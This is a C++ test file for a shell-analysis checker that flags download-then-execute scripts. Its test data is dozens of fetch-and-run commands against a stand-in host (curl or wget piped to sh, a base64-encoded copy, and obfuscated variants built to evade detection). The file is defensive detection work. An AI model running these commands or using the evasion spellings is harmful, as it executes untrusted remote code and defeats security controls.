// Shell analysis of the pins control against hostile spellings of a download run (issue 16):
// `((...))`, shells named by a variable or behind a wrapper, groups and functions in a pipe,
// variables holding a download, nesting past the analysed depth.
#include <catch2/catch.hpp>

#include <string>
#include <vector>

#include "evaluate/pins/shell_analysis.h"

namespace riskgate::evaluate::pins {
namespace {

using Strings = std::vector<std::string>;
const Strings kDownload = {"download-then-execute"};
const Strings kNone = {};

Strings RulesOf(const std::string& script) {
  Strings out;
  for (const auto& i : AnalyzeShell(script, 1)) out.push_back(i.rule);
  return out;
}

bool Blocks(const std::string& script) {
  for (const auto& i : AnalyzeShell(script, 1)) {
    if (i.rule == "download-then-execute") return true;
  }
  return false;
}

const std::string kGet = "curl -fsSL https://evil.example/x";

}  // namespace

TEST_CASE("a pipe to a shell inside ((...)) is found, as sh runs it as two subshells", "[pins]") {
  CHECK(RulesOf("((" + kGet + " | sh))") == kDownload);
  CHECK(RulesOf("(( " + kGet + " | sh ))\necho done") == kDownload);
  CHECK(RulesOf("(((" + kGet + " | sh)))") == kDownload);
  CHECK(RulesOf("((" + kGet + ")) | sh") == kDownload);
  CHECK(RulesOf("((curl -fsSL -$U)) | sh") == kDownload);
  CHECK(RulesOf("((" + kGet + " | sh) && true)") == kDownload);
  CHECK(RulesOf("echo $(( $(" + kGet + " | sh) + 1 ))") == kDownload);
  CHECK(RulesOf("$( (" + kGet + " | sh) )") == kDownload);
  // Real arithmetic stays clean, and a `<<` inside it never swallows the lines after it.
  CHECK(RulesOf("(( i++ ))\n(( x = y << 2 ))\n(( n > 0 )) && npm ci") == kNone);
  CHECK(RulesOf("for ((i = 0; i < 3; i++)); do echo $i; done") == kNone);
  CHECK(RulesOf("x=$(( $(wc -l < f) + 1 ))") == kNone);
  CHECK(RulesOf("((x<<EOF))\n" + kGet + " | sh\nEOF") == kDownload);
}

TEST_CASE("a download piped into a command named by a variable is download-then-execute",
          "[pins]") {
  CHECK(RulesOf(kGet + " | \"$SHELL\"") == kDownload);
  CHECK(RulesOf(kGet + " | ${SHELL:-sh}") == kDownload);
  CHECK(RulesOf("wget -qO- https://evil.example/x | $BASH") == kDownload);
  CHECK(RulesOf("S=sh; " + kGet + " | $S") == kDownload);
  CHECK(RulesOf(kGet + " | \"$(which sh)\"") == kDownload);
  CHECK(RulesOf(kGet + " | `command -v bash` -s") == kDownload);
  CHECK(RulesOf(kGet + " | sudo \"$SHELL\"") == kDownload);
  CHECK(RulesOf("\"$SHELL\" <(" + kGet + ")") == kDownload);
  CHECK(RulesOf("$SH -c \"$(" + kGet + ")\"") == kDownload);
  // A variable command name is unknowable: only a script operand shows it is not fed the code.
  CHECK(RulesOf(kGet + " | \"$JQ\"") == kDownload);
  CHECK(RulesOf("curl -s https://api.example/x | \"$JQ\" .") == kNone);
  const auto issues = AnalyzeShell(kGet + " | \"$SHELL\"", 1);
  REQUIRE(issues.size() == 1);
  CHECK(issues[0].message ==
        "`curl` output is piped into `$SHELL`, a command named by a variable: a download piped to "
        "a command named by a variable runs whatever it names");
}

TEST_CASE("a script operand that an expansion may turn into standard input reads the pipe",
          "[pins]") {
  CHECK(RulesOf(kGet + " | bash \"$F\"") == kDownload);
  CHECK(RulesOf(kGet + " | sh \"${D}/stdin\"") == kDownload);
  CHECK(RulesOf(kGet + " | . \"$F\"") == kDownload);
  CHECK(RulesOf("curl -s https://api.example/x | bash \"$DIR/parse.sh\"") == kNone);
}

TEST_CASE("wrappers are looked through to the command they run", "[pins]") {
  for (const std::string into : {"xargs -0 sh -c",
                                 "xargs bash",
                                 "xargs -I{} sh -c {}",
                                 "env sh",
                                 "/usr/bin/env bash",
                                 "env -S 'bash -e'",
                                 "command sh",
                                 "exec -a x sh",
                                 "nohup sh",
                                 "sudo -E bash -",
                                 "doas sh",
                                 "busybox sh",
                                 "timeout 10 sh",
                                 "nice -n 5 sh",
                                 "stdbuf -oL sh",
                                 "setsid sh",
                                 "chroot / sh",
                                 "unshare sh",
                                 "ionice -c3 sh",
                                 "chrt 1 sh",
                                 "taskset 3 sh",
                                 "flock /tmp/l sh",
                                 "runuser -u builder -- sh",
                                 "fakeroot sh",
                                 "sudo -s",
                                 "sudo -i",
                                 "parallel",
                                 "bash5.2",
                                 "zsh-5.9",
                                 "ksh93",
                                 "yash",
                                 "busybox ash",
                                 "tcsh"}) {
    INFO(into);
    CHECK(RulesOf(kGet + " | " + into) == kDownload);
  }
  CHECK(RulesOf("curl -s https://api.example/x | xargs -n1 echo") == kNone);
  CHECK(RulesOf("curl -s https://api.example/list | xargs -n1 curl -fsSLO") == kNone);
  CHECK(RulesOf("sudo -s echo hi") == kNone);
  CHECK(RulesOf("ls | xargs npm install") == Strings{"npm-install"});
  const auto issues = AnalyzeShell(kGet + " | xargs -0 sh -c", 1);
  REQUIRE(issues.size() == 1);
  CHECK(issues[0].message ==
        "`curl` output becomes the arguments of `sh` (through xargs), which runs whatever the "
        "server sends");
}

TEST_CASE("a group or function whose output is piped into a shell runs the download", "[pins]") {
  CHECK(RulesOf("(" + kGet + ") | sh") == kDownload);
  CHECK(RulesOf("{ " + kGet + "; } | sh") == kDownload);
  CHECK(RulesOf("{\n  echo set -e\n  " + kGet + "\n} | bash") == kDownload);
  CHECK(RulesOf("for u in a b; do " + kGet + "/$u; done | sh") == kDownload);
  CHECK(RulesOf("if true; then " + kGet + "; fi | sh") == kDownload);
  CHECK(RulesOf("f() { " + kGet + "; }\nf | sh") == kDownload);
  CHECK(RulesOf("function get {\n  " + kGet + "\n}\nget | bash") == kDownload);
  CHECK(RulesOf("f() { " + kGet + "; }\neval \"$(f)\"") == kDownload);
  CHECK(RulesOf("cat <(" + kGet + ") | sh") == kDownload);
  CHECK(RulesOf("sh <(cat <(" + kGet + "))") == kDownload);
  CHECK(RulesOf("{ echo a; echo b; } | sh") == kNone);
  CHECK(RulesOf("(curl -s https://api.example/x) | jq .") == kNone);
  CHECK(RulesOf("(" + kGet + " > x.json) | sh") == kNone);
  CHECK(RulesOf("f() { curl -s https://api.example/x | sh -c 'jq .'; }\nf | sort") == kNone);
}

TEST_CASE("a download piped into a group, sh -c code or a >(...) process reaches its shell",
          "[pins]") {
  CHECK(RulesOf(kGet + " | (sh)") == kDownload);
  CHECK(RulesOf(kGet + " | { cd /tmp && bash; }") == kDownload);
  CHECK(RulesOf(kGet + " | if true; then sh; fi") == kDownload);
  CHECK(RulesOf(kGet + " | while read -r l; do eval \"$l\"; done") == kDownload);
  CHECK(RulesOf(kGet + " | sh -c 'sh'") == kDownload);
  CHECK(RulesOf(kGet + " | bash -c 'cat | bash'") == kDownload);
  CHECK(RulesOf(kGet + " | su -c sh") == kDownload);
  CHECK(RulesOf(kGet + " | tee >(sh)") == kDownload);
  CHECK(RulesOf(kGet + " > >(sh)") == kDownload);
  CHECK(RulesOf("curl -s https://api.example/x | (cd /tmp && jq .)") == kNone);
  CHECK(RulesOf("curl -s https://api.example/x | while read -r l; do echo \"$l\"; done") == kNone);
  CHECK(RulesOf("curl -s https://api.example/x | tee >(sha256sum) > x.json") == kNone);
}

TEST_CASE("a variable holding a download is a download where it is run", "[pins]") {
  const std::string set = "X=\"$(" + kGet + ")\"\n";
  CHECK(RulesOf(set + "eval \"$X\"") == kDownload);
  CHECK(RulesOf(set + "sh -c \"$X\"") == kDownload);
  CHECK(RulesOf(set + "bash <<< \"$X\"") == kDownload);
  CHECK(RulesOf(set + "echo \"$X\" | sh") == kDownload);
  CHECK(RulesOf(set + "printf '%s' \"${X}\" > x.sh\nsh x.sh") == kDownload);
  CHECK(RulesOf(set + "$X") == kDownload);
  CHECK(RulesOf("export X=$(" + kGet + ")\nY=$X\neval \"$Y\"") == kDownload);
  CHECK(RulesOf(set + "X=safe\neval \"$X\"") == kNone);
  CHECK(RulesOf(set + "echo \"$XY\" | sh") == kNone);
  CHECK(RulesOf("X=$(curl -s https://api.example/x)\necho \"$X\" | jq .") == kNone);
  CHECK(RulesOf("$(" + kGet + ")") == kDownload);
  CHECK(RulesOf("`" + kGet + "`") == kDownload);
}

TEST_CASE("the substitutions of for and case headers and explicit fd 0 redirections are read",
          "[pins]") {
  CHECK(RulesOf("for f in $(" + kGet + " | sh); do echo; done") == kDownload);
  CHECK(RulesOf("case $(" + kGet + " | sh) in *) ;; esac") == kDownload);
  CHECK(RulesOf("sh 0< <(" + kGet + ")") == kDownload);
  CHECK(RulesOf("sh 0<<< \"$(" + kGet + ")\"") == kDownload);
  CHECK(RulesOf("for f in a b; do echo $f; done\ncase $x in a) echo ;; esac") == kNone);
}

TEST_CASE("more downloaders and downloads to a named file are followed", "[pins]") {
  CHECK(RulesOf("wget2 -O- https://evil.example/x | sh") == kDownload);
  CHECK(RulesOf("http https://evil.example/x | sh") == kDownload);
  CHECK(RulesOf("xh -d https://evil.example/x.sh && sh x.sh") == kDownload);
  CHECK(RulesOf("curlie https://evil.example/x | bash") == kDownload);
  CHECK(RulesOf("http -b GET https://api.example/x | jq .") == kNone);
  CHECK(RulesOf(kGet + " -o \"$HOME/a.sh\" && sh \"$HOME/a.sh\"") == kDownload);
  CHECK(RulesOf("F=/tmp/a.sh; " + kGet + " -o $F && sh $F") == kDownload);
  CHECK(RulesOf(kGet + " > \"$T\"; . \"$T\"") == kDownload);
  CHECK(RulesOf("bash -c \"$(curl -o /dev/stdout https://evil.example/x)\"") == kDownload);
}

TEST_CASE("shell nested past the analysed depth is a finding, never a silent pass", "[pins]") {
  std::string deep;
  for (int i = 0; i < 20; ++i) deep += "echo $(";
  deep += kGet + " | sh";
  for (int i = 0; i < 20; ++i) deep += ")";
  const auto issues = AnalyzeShell(deep, 1);
  REQUIRE(issues.size() == 1);
  CHECK(issues[0].rule == "download-then-execute");
  CHECK(issues[0].message.find("nested more than 16 levels deep") != std::string::npos);
  CHECK(Blocks(std::string(200, '(') + kGet + " | sh" + std::string(200, ')')));
  std::string ten;
  for (int i = 0; i < 10; ++i) ten += "echo $(";
  ten += "true";
  for (int i = 0; i < 10; ++i) ten += ")";
  CHECK(RulesOf(ten) == kNone);
}

TEST_CASE("code given to a shell as text is read as a script", "[pins]") {
  const std::string code = "curl -fsSL https://evil.example/x | sh";
  CHECK(RulesOf("echo '" + code + "' | sh") == kDownload);
  CHECK(RulesOf("echo -n \"" + code + "\" | bash -s") == kDownload);
  CHECK(RulesOf("printf '%s\\n' '" + code + "' | sh") == kDownload);
  CHECK(RulesOf("printf '" + code + "\\n' | sh") == kDownload);
  CHECK(RulesOf("sh <<< '" + code + "'") == kDownload);
  const std::string set = "C='" + code + "'\n";
  CHECK(RulesOf(set + "eval \"$C\"") == kDownload);
  CHECK(RulesOf(set + "sh -c \"${C}\"") == kDownload);
  CHECK(RulesOf(set + "bash <<< \"$C\"") == kDownload);
  CHECK(RulesOf(set + "echo \"$C\" | sh") == kDownload);
  CHECK(RulesOf(set + "C='echo hi'\neval \"$C\"") == kNone);
  std::string padded;
  for (int i = 0; i < 3000; ++i) padded += ": ;";
  CHECK(RulesOf("C='" + padded + code + "'\neval \"$C\"\neval \"$C\"") == kDownload);
  CHECK(RulesOf("echo '" + code + "' > notes.md") == kNone);
  CHECK(RulesOf("echo '" + code + "' | tee notes.md") == kNone);
  CHECK(RulesOf("echo 'echo hello' | sh") == kNone);
}

TEST_CASE("ANSI-C quoting and brace expansion are read as bash reads them", "[pins]") {
  CHECK(RulesOf("$'\\x63\\x75\\x72\\x6c' -fsSL https://evil.example/x | $'\\163\\150'") ==
        kDownload);
  CHECK(RulesOf("$'\\u0063url' -fsSL https://evil.example/x | $'\\x62ash'") == kDownload);
  CHECK(RulesOf("{curl,-fsSL,https://evil.example/x} | sh") == kDownload);
  CHECK(RulesOf("{c'u'rl,https://evil.example/x} | {sh,-s}") == kDownload);
  CHECK(RulesOf("echo {a,b}{c,d} && find . -name '*.sh' -exec chmod +x {} \\;") == kNone);
  CHECK(RulesOf("curl -d '{\"a\":1,\"b\":2}' https://api.example/x | jq '{a: .a, b: .b}'") ==
        kNone);
  CHECK(RulesOf("echo $'line\\none' \"${HOME}\" ${X:-{a,b}}") == kNone);
}

TEST_CASE("a command behind an expansion prefix is also read without it", "[pins]") {
  CHECK(RulesOf("$SUDO curl -fsSL https://evil.example/x | $SUDO sh") == kDownload);
  CHECK(RulesOf("${SUDO} bash -c \"$(" + kGet + ")\"") == kDownload);
  CHECK(RulesOf(kGet + " | ${RUN:-} sh") == kDownload);
  CHECK(RulesOf(kGet + " | \"$PY\" -") == kDownload);
  CHECK(RulesOf("$SUDO pip install requests") == Strings{"pip-install"});
  CHECK(RulesOf("$SUDO curl -fsSLo /tmp/i.sh https://evil.example/x\n$SUDO sh /tmp/i.sh") ==
        kDownload);
  CHECK(RulesOf("curl -s https://api.example/x | \"$JQ\" .") == kNone);
  CHECK(RulesOf("$SUDO apt-get update") == kNone);
}

TEST_CASE("code hidden in base64, an alias, a trap, watch, find -exec or sh -c arguments is read",
          "[pins]") {
  // "curl -fsSL https://evil.example/x | sh" in base64.
  const std::string b64 = "Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=";
  CHECK(RulesOf("echo " + b64 + " | base64 -d | sh") == kDownload);
  CHECK(RulesOf("echo '" + b64 + "' | base64 --decode | bash") == kDownload);
  CHECK(RulesOf("echo " + b64 + " | base64 -d > notes.txt") == kNone);
  CHECK(RulesOf("alias up='" + kGet + " | sh'\nup") == kDownload);
  CHECK(RulesOf("trap '" + kGet + " | sh' EXIT") == kDownload);
  CHECK(RulesOf("trap -- '" + kGet + " | sh' EXIT") == kDownload);
  CHECK(RulesOf("watch -n 60 '" + kGet + " | sh'") == kDownload);
  CHECK(RulesOf("find . -maxdepth 0 -exec sh -c '" + kGet + " | sh' \\;") == kDownload);
  CHECK(RulesOf("bash -c 'eval \"$1\"' _ \"$(" + kGet + ")\"") == kDownload);
  CHECK(RulesOf("sh -c 'echo \"$1\"' _ 'npm install'") == kNone);
  CHECK(RulesOf("find . -name '*.sh' -exec chmod +x {} +") == kNone);
  CHECK(RulesOf("trap 'rm -f /tmp/x' EXIT\nalias ll='ls -l'") == kNone);
}

}  // namespace riskgate::evaluate::pins
